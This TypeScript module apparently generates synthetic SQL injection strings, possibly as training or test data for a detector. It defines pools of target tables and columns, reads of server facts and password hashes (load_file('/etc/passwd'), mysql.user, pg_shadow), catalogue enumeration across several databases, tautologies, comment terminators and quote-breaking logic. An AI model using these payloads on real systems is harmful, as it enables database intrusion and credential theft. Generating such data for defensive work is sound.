import type { Rng } from '#models/rng.ts';
import {
  altered,
  digits,
  hex,
  integer,
  letters,
  maybe,
  mostly,
  oneOf,
  type Part,
  repeat,
  same,
  text,
  type Write,
  words,
  write
} from '../template.ts';
import { ALPHANUMERIC, inventedWord, LOWER, lowerWord, UPPER } from './shared.ts';

export const table = oneOf(
  words(
    'users user members accounts admin admins customers employees products orders news articles posts login tbl_user staff clients sessions payments cards config settings emp dept students books items categories wp_users jos_users'
  ),
  text`${words('tbl_ app_ site_ cms_ shop_ prod_ my')}${words('users admin members orders customers')}`,
  inventedWord
);
export const column = oneOf(
  words(
    'id username password name email user_name passwd pass pwd login user_id userid uname hash token secret card_number ssn salary title price description phone address role is_admin first_name last_name credit_card api_key'
  ),
  text`${words('user_ u_ admin_ cust_ login_')}${words('id name pass password mail')}`
);
/** Invented aliases and comment words, as tools write them. */
export const alias = mostly([letters(LOWER + UPPER, 4), 3], [letters(LOWER, 1, 3), 2], [lowerWord, 1]);
export const bigNumber = mostly([integer(1000, 9999), 3], [integer(1, 99), 3], [integer(100, 999_999), 1]);
export const hexString = text`0x${repeat(hex(2), 2, 12)}`;

/** char(97)+char(98), chr(97)||chr(98), concat(char(97),char(98)): a string without quotes. */
export const characterCodes = (call: string, joiner: string): Write =>
  repeat(text`${call}(${integer(48, 122)})`, 2, 8, joiner);
export const quoteless = oneOf(
  hexString,
  text`char(${repeat(integer(48, 122), 1, 8, ',')})`,
  characterCodes('char', '+'),
  characterCodes('chr', '||'),
  text`concat(${characterCodes('char', ',')})`
);

export const shortText = mostly(
  [letters(LOWER, 1, 3), 3],
  [letters(LOWER + UPPER, 4), 2],
  [digits(1), 2],
  [lowerWord, 1],
  ['', 0.5]
);

export const serverFact = oneOf(
  'version()',
  '@@version',
  'user()',
  'current_user()',
  'current_user',
  'database()',
  'schema()',
  'session_user()',
  'system_user()',
  '@@hostname',
  '@@datadir',
  '@@basedir',
  '@@servername',
  '@@global.version',
  'db_name()',
  'user_name()',
  'suser_sname()',
  'host_name()',
  'current_database()',
  'inet_server_addr()',
  'sqlite_version()',
  text`db_name(${integer(0, 9)})`,
  'load_file(0x2f6574632f706173737764)',
  "load_file('/etc/passwd')",
  'system_user',
  '@@spid',
  'connection_id()',
  "sys_context('userenv','current_schema')"
);

const catalogue = oneOf(
  text`table_name from information_schema.tables${maybe(oneOf(' where table_schema=database()', ' where table_schema!=0x6d7973716c', " where table_schema='public'", text` limit ${integer(0, 20)},1`, ' limit 1 offset 0'))}`,
  text`column_name from information_schema.columns where table_name=${oneOf(text`'${table}'`, hexString)}`,
  text`schema_name from information_schema.schemata limit ${integer(0, 9)},1`,
  text`name from ${maybe('master..')}sysobjects where xtype=${oneOf("'u'", 'char(85)', "'U'")}`,
  text`name from ${oneOf('master..sysdatabases', 'sys.databases', 'sys.tables', text`${lowerWord}..syscolumns`)}`,
  text`${oneOf('name', 'sql', 'tbl_name')} from sqlite_master${maybe(" where type='table'")}`,
  'table_name from all_tables',
  'table_name from user_tables',
  'banner from v$version where rownum=1',
  'column_name from all_tab_columns',
  'username from all_users',
  'tablename from pg_tables',
  'datname from pg_database',
  'usename from pg_user',
  'relname from pg_class',
  'passwd from pg_shadow',
  'name from syscat.tables',
  'tabname from syscat.tables',
  'name from sysibm.systables',
  'user from mysql.user',
  'authentication_string from mysql.user',
  'distinct(db) from mysql.db'
);

/** What an injection reads: one scalar expression. */
export const readOut = mostly(
  [serverFact, 3],
  [text`(select ${catalogue})`, 3],
  [text`(select ${column} from ${table}${maybe(text` limit ${integer(0, 9)},1`)})`, 3],
  [text`(select ${oneOf('group_concat', 'json_arrayagg', 'count', 'max', 'min')}(${column}) from ${table})`, 2],
  [
    text`(select group_concat(${oneOf('table_name', 'column_name')}) from information_schema.${words('tables columns')})`,
    1
  ],
  [text`(select string_agg(${column}::text,',') from ${table})`, 1],
  [text`(select listagg(${column},',') within group (order by 1) from ${table})`, 0.5],
  [text`(select top 1 ${oneOf(column, 'name')} from ${oneOf(table, 'master..sysdatabases', 'sysobjects')})`, 1],
  [text`(select ${column} from ${table} where ${column}=${oneOf(text`'${shortText}'`, 'rownum', quoteless)})`, 1]
);
export { catalogue };

/** Always true when read by the database; both sides share one draw. */
export const tautology = mostly(
  [same(bigNumber, (n) => `${n}=${n}`), 6],
  [same(shortText, (s) => `'${s}'='${s}'`), 3],
  [same(shortText, (s) => `"${s}"="${s}"`), 1.5],
  [same(integer(1, 99), (n) => `(${n})=(${n})`), 1],
  [same(shortText, (s) => `'${s}' like '${s}'`), 1],
  [same(integer(1, 9), (n) => `${n} like ${n}`), 0.7],
  [same(integer(2, 99), (n) => `${n} in (${n})`), 0.7],
  [text`${integer(2, 9)} between 1 and ${integer(10, 99)}`, 0.7],
  [text`${integer(10, 99)}>${integer(0, 9)}`, 1],
  [text`${integer(0, 9)}<${integer(10, 99)}`, 0.7],
  [text`not ${integer(1, 9)}=${integer(10, 99)}`, 0.6],
  [same(column, (c) => `${c}=${c}`), 0.6],
  [text`${column} is not null`, 0.7],
  [text`${column} like ${oneOf("'%'", "'a%'", "'%a%'", "'_%'", text`'%${shortText}%'`)}`, 0.9],
  [text`${integer(1, 9)} is not null`, 0.3],
  [text`exists(select ${oneOf('1', '*', column)} from ${table})`, 0.9],
  [text`'${lowerWord}' regexp '${oneOf('.', '^', '[a-z]')}'`, 0.4],
  [text`'${lowerWord}' rlike '.'`, 0.3],
  [same(integer(1, 50), (n) => `${n}+${n}=${Number(n) * 2}`), 0.6],
  [text`ascii('${letters(LOWER)}')>${integer(1, 60)}`, 0.4],
  ['true', 0.7],
  ['1', 0.8],
  ["''=''", 0.8],
  ['""=""', 0.4],
  ['1=1', 3],
  ["'1'='1'", 1.5],
  ['not false', 0.3],
  [same(quoteless, (q) => `${q}=${q}`), 0.5],
  [text`@@version ${oneOf('is not null', "like '%'", '>1')}`, 0.3]
);
export const falsehood = mostly(
  [text`${integer(1, 999)}=${integer(1000, 9999)}`, 4],
  ['1=2', 2],
  ['1=0', 1],
  ['false', 0.5],
  [text`'${letters(LOWER)}'='${letters(UPPER)}${letters(LOWER)}'`, 1],
  [text`${integer(100, 900)}<${integer(1, 99)}`, 0.5],
  ['null is not null', 0.2]
);

export const comment = mostly(
  ['--', 3],
  ['-- ', 2],
  ['-- -', 4],
  ['--+', 2],
  ['#', 3],
  ['/*', 1],
  [';--', 1],
  [';-- -', 0.5],
  ['--;', 0.3],
  [';#', 0.4],
  ['%00', 0.2],
  ['\u0000', 0.15],
  [text`-- ${alias}`, 3],
  [text`# ${alias}`, 0.6],
  [text`--${alias}`, 0.6],
  [text`/*${alias}*/`, 0.2],
  ['%23', 0.2],
  ['--%20', 0.2],
  ['`', 0.1]
);

/** What the attacked field holds before the injection: mostly nothing, a number or an ordinary word. */
export const baseValue = mostly(
  ['', 4],
  [integer(1, 99), 4],
  ['1', 4],
  [text`-${bigNumber}`, 2],
  [lowerWord, 1.5],
  ['admin', 0.7],
  [text`${inventedWord}@${inventedWord}.com`, 0.3],
  [text`${inventedWord} ${inventedWord}`, 0.5],
  [digits(5), 0.5],
  [letters(ALPHANUMERIC, 4), 1],
  ['%', 0.3],
  ['null', 0.2]
);
type Quoting = { open: string; reopen: string };
const quotings: readonly (readonly [Quoting, number])[] = [
  [{ open: "'", reopen: "'" }, 8],
  [{ open: '"', reopen: '"' }, 3],
  [{ open: "%'", reopen: "'%" }, 1],
  [{ open: '`', reopen: '`' }, 0.3],
  [{ open: "\\'", reopen: "\\'" }, 0.3],
  [{ open: "''", reopen: "''" }, 0.2],
  [{ open: '’', reopen: '’' }, 0.05]
];
const parentheses = [
  ['', 6],
  [')', 3],
  ['))', 1.3],
  [')))', 0.5]
] as const;

/**
 * Puts a clause where a value stood: leaves the quotes and parentheses the query had open, adds the clause and makes what follows harmless,
 * by a comment or by opening again what the query will close.
 */
export function injected(clause: Part): Write {
  return (rng) => {
    const before = write(rng, baseValue);
    const gap = rng.chance(0.93) ? ' ' : '';
    if (rng.chance(0.4)) {
      const closing = before === '' ? '' : rng.weighted(parentheses);
      return before + closing + gap + write(rng, clause) + numericEnd(rng, closing);
    }
    const quoting = rng.weighted(quotings);
    const closing = rng.weighted(parentheses);
    return before + quoting.open + closing + gap + write(rng, clause) + quotedEnd(rng, quoting, closing);
  };
}

function numericEnd(rng: Rng, closing: string): string {
  if (closing !== '' && rng.chance(0.5)) {
    const number = write(rng, bigNumber);
    return ` ${rng.pick(['and', 'or'])} ${'('.repeat(closing.length)}${number}=${number}`;
  }
  return rng.chance(0.55) ? write(rng, comment) : '';
}

function quotedEnd(rng: Rng, quoting: Quoting, closing: string): string {
  if (rng.chance(0.55)) return write(rng, comment);
  const word = write(rng, shortText);
  const mark = quoting.reopen.at(-1) === '%' ? "'" : quoting.reopen;
  const open = '('.repeat(closing.length) + mark;
  return rng.weighted([
    [` and ${open}${word}${mark}=${mark}${word}`, 4],
    [` or ${open}${word}${mark}=${mark}${word}`, 2],
    [` and ${open}${word}${mark} like ${mark}${word}`, 1],
    [` and ${open}%${mark}=${mark}`, 0.5],
    [` or ${mark}`, 0.4],
    [`||${mark}`, 0.3],
    [`+${mark}`, 0.3],
    ['', 0.8]
  ] as const);
}

const KEYWORDS =
  /\b(?:select|union|all|from|where|and|or|not|order|group|by|having|limit|offset|insert|into|values|update|set|delete|drop|table|exec|execute|declare|waitfor|delay|sleep|benchmark|like|between|in|is|null|case|when|then|else|end|if|concat|char|version|database|user|convert|cast|as|count|information_schema|tables|columns|procedure|analyse|top|distinct|exists|begin|create|alter|xor|rlike|regexp)\b/gi;

/** Keywords as their writers case them: all lower, all upper, or capitalised, one way throughout. */
export function sql(part: Part): Write {
  return altered(part, (written, rng) => {
    const style = rng.next();
    if (style < 0.5) return written;
    if (style < 0.9) return written.replace(KEYWORDS, (word) => word.toUpperCase());
    return written.replace(KEYWORDS, (word) => word.charAt(0).toUpperCase() + word.slice(1));
  });
}
